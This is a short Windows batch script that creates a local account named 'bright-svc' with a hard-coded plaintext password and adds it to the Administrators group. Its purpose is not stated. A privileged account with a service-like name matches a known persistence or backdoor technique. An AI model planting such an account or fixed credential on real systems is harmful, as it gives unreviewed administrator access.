@echo off
net user bright-svc Kept-In-N0-St /add /fullname:"Bright Service"
net localgroup Administrators bright-svc /add
